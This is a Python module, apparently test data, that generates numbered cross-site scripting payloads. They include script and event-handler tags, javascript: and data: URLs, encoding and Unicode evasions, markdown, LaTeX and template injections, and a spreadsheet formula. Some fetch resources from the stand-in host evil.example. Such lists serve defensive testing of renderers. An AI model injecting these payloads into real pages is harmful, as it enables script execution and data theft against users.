"""Texts that would run in a browser if any page let them: each calls `X(number)` or asks evil.example for something.

§ stands for the number.
"""

from __future__ import annotations

_CORES = (
    "<script>X(§)</script>",
    "<img src=x onerror=X(§)>",
    "<svg onload=X(§)>",
    "<svg><script>X(§)</script></svg>",
    "<iframe srcdoc='<script>parent.X(§)</script>'></iframe>",
    "<details open ontoggle=X(§)>",
    "<input autofocus onfocus=X(§)>",
    "<video><source onerror=X(§)></video>",
    "<body onload=X(§)>",
    "<a href=javascript:X(§)>点</a>",
    "<math><a xlink:href=javascript:X(§)>点</a></math>",
    "<form><button formaction=javascript:X(§)>点</button></form>",
    "<style>@import 'http://evil.example/§.css';</style>",
    "<link rel=stylesheet href=http://evil.example/§.css>",
    "<base href=http://evil.example/§/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/§'>",
    "<div onmouseover=X(§) style='position:fixed;inset:0'>",
    "<b onpointerenter=X(§)>重</b>",
    "<animate attributeName=x onbegin=X(§)>",
    "<object data=javascript:X(§)>",
    "<template shadowrootmode=open><script>X(§)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=X(§)>'>",
    "<ScRiPt/x>X(§)</sCrIpT>",
    "<img/src='x'/onerror='X(§)'/",
)
# What would end the place the text stands in.
_CLOSERS = (
    "",
    '">',
    "'>",
    "</script>",
    "</title>",
    "</style>",
    "</textarea>",
    "-->",
    "]]>",
    "</text></svg>",
    "</noscript>",
    '\\"}]};//',
    "\u2028",
    "\u202e",
    "&lt;",
)
_OTHERS = (
    "--x_x--0_0--X(§)--x_x--0_0--",
    "--x_x--0_0--(function(){X(§)})()--x_x--0_0--",
    "--x_x--0_--x_x--0_0--0--X(§)",
    '"--x_x--0_0--X(§)--x_x--0_0--',
    "${X(§)}",
    "{{constructor.constructor('X(§)')()}}",
    "{b}<img src=x onerror=X(§)>{c}",
    "%{customdata}<img src=x onerror=X(§)>",
    "$\\href{javascript:X(§)}{点}$",
    "$$\\unicode{<img src=x onerror=X(§)>}$$",
    "$\\includegraphics{http://evil.example/§.png}$",
    "[点](javascript:X(§))",
    "[点](data:text/html,<script>X(§)</script>)",
    "![图](http://evil.example/§.png)",
    "[![图](http://evil.example/§.png)](http://evil.example/§)",
    "<http://evil.example/§>",
    "http://evil.example/§",
    "[x]: http://evil.example/§ '\"onmouseover=X(§)'",
    ":red[X(§)] :material/home: :streamlit: :shortcode:",
    ":material/<img src=x onerror=X(§)>:",
    ":violet-badge[<img src=x onerror=X(§)>]",
    "```html\n<script>X(§)</script>\n```",
    "# <img src=x onerror=X(§)>",
    "> <img src=x onerror=X(§)>",
    "| a |\n| --- |\n| <img src=x onerror=X(§)> |",
    "javascript:X(§)",
    "javascript&colon;X(§)",
    "java\tscript:X(§)",
    "\x01javascript:X(§)",
    "data:text/html;base64,PHNjcmlwdD5YKCk8L3NjcmlwdD4=§",
    "vbscript:X(§)",
    "'-X(§)-'",
    '"-X(§)-"',
    "`-X(§)-`",
    "\\u003cimg src=x onerror=X(§)\\u003e",
    "&#60;img src=x onerror=X(§)&#62;",
    "%3Cimg src=x onerror=X(§)%3E",
    "＜img src=x onerror=X(§)＞",
    "<im\x00g src=x onerror=X(§)>",
    "\u202e<img src=x onerror=X(§)>\u202c",
    "\ufeff<img src=x onerror=X(§)>",
    "<a href='http://evil.example/§'>点</a>",
    "<span style='background:url(http://evil.example/§)'>",
    "<a onclick=X(§)>点我</a>",
    "__proto__[x]=X(§)",
    "constructor",
    '=HYPERLINK("javascript:X(§)")',
    "');X(§);('",
    "*/X(§)/*",
    "<!--<script>X(§)</script>-->",
    "<![CDATA[<script>X(§)</script>]]>",
    "<?xml-stylesheet href='javascript:X(§)'?>",
    "<sub>X(§)</sub><img src=x onerror=X(§)>",
    "<br onmouseover=X(§)><b>重</b><i>斜</i>",
    '<a href="javascript:X(§)" target=_blank>plotly</a>',
    "<a href='data:text/html,<script>opener.X(§)</script>'>plotly</a>",
    '<span style="font-size:1px;}</style><script>X(§)</script>">',
    "{a|<img src=x onerror=X(§)>}",
    "{@[1]}<img src=x onerror=X(§)>",
    "\ud83d<img src=x onerror=X(§)>",
)


def payloads(count: int) -> list[str]:
    """The first `count` payloads, number n calling X(n); simple and particular ones first, then every core behind
    every closer, then longer chains."""
    forms = [*_OTHERS, *_CORES]
    forms += [closer + core for closer in _CLOSERS[1:] for core in _CORES]
    forms += [core + other for core in _CORES[:4] for other in _OTHERS]
    forms += [
        first + second + core for first in _CLOSERS[1:] for second in _CLOSERS[1:] for core in _CORES[:2]
    ]
    if count > len(forms):
        raise ValueError(f"there are {len(forms)} payloads")
    return [form.replace("§", str(number)) for number, form in enumerate(forms[:count])]
